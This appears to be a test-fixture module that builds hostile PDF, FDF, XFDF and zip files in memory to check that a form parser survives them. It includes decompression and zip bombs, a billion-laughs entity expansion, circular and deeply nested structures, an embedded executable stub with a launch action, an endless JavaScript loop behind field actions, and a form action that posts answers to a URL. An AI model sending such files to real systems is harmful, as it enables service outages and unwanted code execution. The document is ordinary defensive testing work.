"""Files made to break what reads them, each named by what it does. Bytes in memory: none is kept on disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from tests.returned.made_pdf import VALUES, changed, field, make_pdf


def _change(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    return changed(make_pdf(VALUES), change)


def doubled_kids() -> bytes:
    """31 levels, each listing the one below twice: two thousand million ways down."""

    def change(pdf: pikepdf.Pdf) -> None:
        below = pdf.make_indirect(Dictionary(T=String("x"), FT=Name.Tx, V=String("x")))
        for _ in range(31):
            below = pdf.make_indirect(Dictionary(T=String("x"), Kids=Array([below, below])))
        pdf.Root.AcroForm.Fields.append(below)

    return _change(change)


def circular_kids() -> bytes:
    """A field that is its own kid, and its own parent."""

    def change(pdf: pikepdf.Pdf) -> None:
        node = pdf.make_indirect(Dictionary(T=String("x")))
        node.Kids, node.Parent = Array([node]), node
        pdf.Root.AcroForm.Fields.append(node)
        pdf.pages[0].obj.Annots.append(pdf.make_indirect(Dictionary(Subtype=Name.Widget, Parent=node)))

    return _change(change)


def deep_kids() -> bytes:
    """5,000 fields, each the only kid of the one above."""

    def change(pdf: pikepdf.Pdf) -> None:
        below = pdf.make_indirect(Dictionary(T=String("x"), FT=Name.Tx))
        for _ in range(5_000):
            below = pdf.make_indirect(Dictionary(T=String("x"), Kids=Array([below])))
        pdf.Root.AcroForm.Fields.append(below)

    return _change(change)


def circular_pages() -> bytes:
    """A page tree that comes back to its root."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Kids.append(pdf.Root.Pages)

    data = _change(lambda pdf: None)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pdf.Root.Pages.objgen[0]
    at = data.index(b"/Kids [", data.index(b"/Type /Pages") - 200)
    return data[: at + 7] + f" {root} 0 R".encode() + data[at + 7 :]


def million_direct_fields() -> bytes:
    """A list of a million fields that are no objects of their own."""
    return _plain(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [" + b"<</T(a)/FT/Tx>>" * 1_000_000 + b"] >> >>"
    )


def many_fields() -> bytes:
    """6,000 small fields, in order."""

    def change(pdf: pikepdf.Pdf) -> None:
        for number in range(6_000):
            pdf.Root.AcroForm.Fields.append(Dictionary(T=String(f"f{number}"), FT=Name.Tx))

    return _change(change)


def many_pages() -> bytes:
    """100,000 times the same page."""
    kids = b"3 0 R " * 100_000
    return _plain(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [ << /T (a) /FT /Tx >> ] >> >>",
        b"<< /Type /Pages /Count 100000 /Kids [" + kids + b"] >>",
    )


def _plain(catalogue: bytes, pages: bytes = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>") -> bytes:
    """A PDF of three objects, written by hand, whole."""
    objects = [catalogue, pages, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def large_value_in_a_stream() -> bytes:
    """An answer of 50 MB in 50 kB."""

    def change(pdf: pikepdf.Pdf) -> None:
        field(pdf, "story").V = pdf.make_stream(b"a" * 50_000_000)

    return _change(change)


def large_value_in_a_packed_string() -> bytes:
    """An answer of 50 MB, a string in a compressed object stream."""

    def change(pdf: pikepdf.Pdf) -> None:
        field(pdf, "story").V = String(b"a" * 50_000_000)

    return changed(make_pdf(VALUES), change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def object_stream_bomb() -> bytes:
    """A packed string of 250 MB: past what a file may inflate to."""
    packer = zlib.compressobj(9)
    body = packer.compress(b"1 0 << /Type /Catalog /Pages 2 0 R /X (")
    for _ in range(250):
        body += packer.compress(b"a" * 1_000_000)
    body += packer.compress(b") >>") + packer.flush()
    return _with_object_stream(body)


def _with_object_stream(body: bytes) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    places[2] = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Count 0 /Kids [] >>\nendobj\n"
    places[4] = len(out)
    head = f"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(body)} >>\nstream\n"
    out += head.encode() + body + b"\nendstream\nendobj\n"
    places[5] = len(out)
    rows = [(0, 0, 65535), (2, 4, 0), (1, places[2], 0), (0, 0, 0), (1, places[4], 0), (1, places[5], 0)]
    table = zlib.compress(b"".join(struct.pack(">BLH", *row) for row in rows))
    head = (
        f"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {len(table)} >>\nstream\n"
    )
    out += head.encode() + table + b"\nendstream\nendobj\n" + f"startxref\n{places[5]}\n%%EOF\n".encode()
    return bytes(out)


def cross_reference_bomb() -> bytes:
    """A cross-reference stream that says it has a thousand million entries and inflates to 250 MB."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(250)) + packer.flush()
    out = bytearray(b"%PDF-1.7\n2 0 obj\n<< /Type /Pages /Count 0 /Kids [] >>\nendobj\n")
    start = len(out)
    head = (
        f"5 0 obj\n<< /Type /XRef /Size 85000000 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {len(body)} >>\n"
    )
    out += head.encode() + b"stream\n" + body + b"\nendstream\nendobj\n" + f"startxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def deep_arrays() -> bytes:
    """100,000 arrays inside one another where a value should be."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return _plain(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [ << /T (a) /FT /Tx /V " + deep + b">> ] >> >>")


def self_reference() -> bytes:
    """An object that is a reference to itself, as the form and as the pages."""
    return _plain(b"<< /Type /Catalog /Pages 1 0 R /AcroForm 1 0 R /Fields 1 0 R /Kids 1 0 R >>")


def rich_text_of_brackets() -> bytes:
    """Rich text of half a million opening brackets, for those who take markup out by pattern."""

    def change(pdf: pikepdf.Pdf) -> None:
        field(pdf, "story").RV = String(b"<" * 500_000 + b"<br" + b" " * 400_000)

    return _change(change)


def odd_names() -> bytes:
    """Names and keys that are no UTF-8, or hold zeros and slashes."""
    data = _change(lambda pdf: None)
    return data.replace(b"/FT /Tx", b"/F\xed /Tx", 1).replace(b"/V /mentor", b"/V /m#e9#2f#23", 1)


def claim_bomb() -> bytes:
    """A claim of 60 MB of spaces in 60 kB."""
    return changed(make_pdf(VALUES, claim=b" " * 60_000_000), lambda pdf: None, compress_streams=True)


def claim_of_brackets() -> bytes:
    """A claim of 30,000 brackets inside one another."""
    return make_pdf(VALUES, claim=b"[" * 30_000 + b"]" * 30_000)


def claim_of_odd_numbers() -> bytes:
    """A claim with NaN and a number of 10,000 digits."""
    return make_pdf(VALUES, claim=b'{"schemebook": NaN, "version": 1' + b"0" * 10_000 + b"}")


def attachment_bomb() -> bytes:
    """Beside the claim an attachment of 600 MB in 600 kB, which nobody opens."""

    def change(pdf: pikepdf.Pdf) -> None:
        packer = zlib.compressobj(9)
        body = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(600)) + packer.flush()
        held = pikepdf.Stream(pdf, body, Dictionary(Type=Name.EmbeddedFile, Filter=Name.FlateDecode))
        spec = Dictionary(Type=Name.Filespec, UF=String("cv.bin"), EF=Dictionary(F=pdf.make_indirect(held)))
        pdf.Root.AF.append(pdf.make_indirect(spec))

    return _change(change)


def attached_program() -> bytes:
    """Beside the claim a program, and a launch action that would start it."""

    def change(pdf: pikepdf.Pdf) -> None:
        held = pdf.make_indirect(pdf.make_stream(b"MZ" + b"\0" * 100))
        spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, UF=String("a.exe"), EF=Dictionary(F=held)))
        pdf.Root.AF.append(spec)
        pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=spec)

    return _change(change)


def script_behind_a_field() -> bytes:
    """A script that runs when a field is left, and one behind a harmless action."""

    def change(pdf: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("while (true) {}"))
        field(pdf, "name").AA = Dictionary(Bl=script)
        field(pdf, "email").A = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=script)

    return _change(change)


def form_that_sends_itself() -> bytes:
    """A button's action that sends the answers away."""

    def change(pdf: pikepdf.Pdf) -> None:
        field(pdf, "consent").A = Dictionary(S=Name.SubmitForm, F=String("https://example.org/collect"))

    return _change(change)


def circle_of_actions() -> bytes:
    """Two actions, each the next of the other."""

    def change(pdf: pikepdf.Pdf) -> None:
        first = pdf.make_indirect(Dictionary(S=Name.GoTo))
        second = pdf.make_indirect(Dictionary(S=Name.URI, Next=Array([first] * 60)))
        first.Next = Array([second] * 60)
        pdf.Root.OpenAction = first

    return _change(change)


def many_notes() -> bytes:
    """4,000 notes over one page."""

    def change(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Subtype=Name.FreeText, Contents=String("x" * 1_000), Rect=Array([0, 0, 400, 600]))
        pdf.pages[0].obj.Annots = Array([*pdf.pages[0].obj.Annots, *(pdf.make_indirect(note) for _ in range(4_000))])

    return _change(change)


def drawing_bomb() -> bytes:
    """A page without fields whose drawing inflates to 400 MB."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b"0 0 9 9 re f\n" * 80_000) for _ in range(400)) + packer.flush()
    return _page_of(pikepdf.Stream, body)


def picture_bomb() -> bytes:
    """A page without fields with a picture of 60,000 by 60,000 dots."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(450)) + packer.flush()
    return _page_of(pikepdf.Stream, b"60 0 0 60 0 0 cm /I Do", picture=body)


def _page_of(stream: type[pikepdf.Stream], drawing: bytes, picture: bytes = b"") -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(400, 600))
        page = pdf.pages[0].obj
        page.Contents = stream(pdf, drawing)
        if picture:
            image = stream(pdf, picture, Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000))
            image.ColorSpace, image.BitsPerComponent, image.Filter = Name.DeviceGray, 1, Name.FlateDecode
            page.Resources = Dictionary(XObject=Dictionary(I=pdf.make_indirect(image)))
        else:
            page.Contents.Filter = Name.FlateDecode
        out = io.BytesIO()
        pdf.save(out, static_id=True, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return out.getvalue()


def entity_bomb() -> bytes:
    """XFDF with entities that grow to a thousand million letters."""
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10 if n else b"x" * 10) for n in range(9))
    return b'<?xml version="1.0"?><!--a--><xfdf xmlns="x"><fields/></xfdf><!DOCTYPE x [' + entities + b"]>"


def deep_form_data() -> bytes:
    """FDF of 5,000 fields inside one another."""
    deep = b"<< /T (a) /Kids [" * 5_000 + b"]>>" * 5_000
    body = b"1 0 obj\n<< /FDF << /Fields [" + deep + b"] >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    return b"%FDF-1.2\n" + body


PDFS: dict[str, Callable[[], bytes]] = {
    made.__name__.replace("_", "-"): made
    for made in (
        doubled_kids, circular_kids, deep_kids, circular_pages, million_direct_fields, many_fields, many_pages,
        large_value_in_a_stream, large_value_in_a_packed_string, object_stream_bomb, cross_reference_bomb, deep_arrays,
        self_reference, rich_text_of_brackets, odd_names, claim_bomb, claim_of_brackets, claim_of_odd_numbers,
        attachment_bomb, attached_program, script_behind_a_field, form_that_sends_itself, circle_of_actions,
        many_notes, drawing_bomb, picture_bomb, entity_bomb, deep_form_data,
    )
}  # fmt: skip


def zip_of_many() -> bytes:
    """65,000 empty members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(65_000):
            archive.writestr(f"{number}.pdf", b"")
    return out.getvalue()


def zip_that_inflates() -> bytes:
    """One member of 40 MB in 40 kB: a thousand times its place."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.pdf", b"\0" * 40_000_000)
    return out.getvalue()


def zip_in_zips() -> bytes:
    """Zips four levels deep, each holding the next ten times."""
    data = b"%PDF-1.7"
    for level in range(4):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for number in range(10):
                archive.writestr(f"{number}.{'zip' if level else 'pdf'}", data)
        data = out.getvalue()
    return data


def overlapping_members() -> bytes:
    """Many names for one and the same compressed bytes, as the smallest bombs have it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.pdf", b"\0" * 1_000_000)
    data = out.getvalue()
    listed, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry = data[listed:end]
    tail = bytearray(data[end:])
    struct.pack_into("<HHL", tail, 8, 1_000, 1_000, len(entry) * 1_000)
    return data[:listed] + entry * 1_000 + bytes(tail)


BURSTING_ZIPS: dict[str, Callable[[], bytes]] = {
    made.__name__.replace("_", "-"): made for made in (zip_of_many, zip_that_inflates, zip_in_zips, overlapping_members)
}
